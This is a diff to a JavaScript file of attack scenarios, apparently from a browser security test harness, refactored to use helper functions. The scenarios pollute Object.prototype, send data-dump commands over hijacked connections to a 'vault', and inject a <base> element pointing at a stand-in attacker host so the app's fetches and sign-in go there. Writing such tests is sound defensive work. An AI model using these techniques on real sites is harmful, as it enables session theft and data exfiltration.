@@ -1,5 +1,7 @@
 // Options, and what JavaScript does with objects that are handed over.
-import { wait } from '../kit.mjs';
+import { element, wait } from '../kit.mjs';
+import { inClosure, whenever } from '../reasons.mjs';
+import { fetchTo } from '../wire.mjs';
 
 /** Properties for Object.prototype, as a polluted one would have them. */
 const polluted = ({ attacker, api }) => ({
@@ -43,7 +45,7 @@ export const options = [
       await app.fetch(`${config.attacker}orders`, {}).catch(record);
     },
     disturbs: true,
-    lost: { after: { closure: 'hooks' }, before: { closure: 'hooks' } },
+    lost: whenever(inClosure('hooks')),
   },
   {
     id: 'options-pollution-wire',
@@ -156,8 +158,7 @@ export const options = [
       await victim('fetch', 'post', 'checkSession');
       // The page's end of the wire to the vault.
       for (const connection of taken) {
-        const request = { url: config.attacker, method: 'GET', headers: [], init: [], keepalive: false };
-        for (const command of [{ fetch: request }, { checkSession: { params: [] } }, { dump: {} }]) {
+        for (const command of [fetchTo(config.attacker), { checkSession: { params: [] } }, { dump: {} }]) {
           record(await Promise.race([connection.command(command).catch((error) => error), wait(1500)]));
         }
       }
@@ -237,10 +238,7 @@ export const options = [
     title: 'adds a <base> of its own, and has the app fetch relative URLs and sign in',
     when: 'after',
     async run({ session, config, record, undo }) {
-      const base = document.createElement('base');
-      base.href = config.attacker;
-      document.head.append(base);
-      undo(() => base.remove());
+      element('base', { href: config.attacker }, undo);
       const app = await session();
       for (const url of ['orders', '/orders', '', '?x']) record(await app.fetch(url).catch((error) => error));
       await app.signIn({ returnTo: 'orders' }).catch(record);
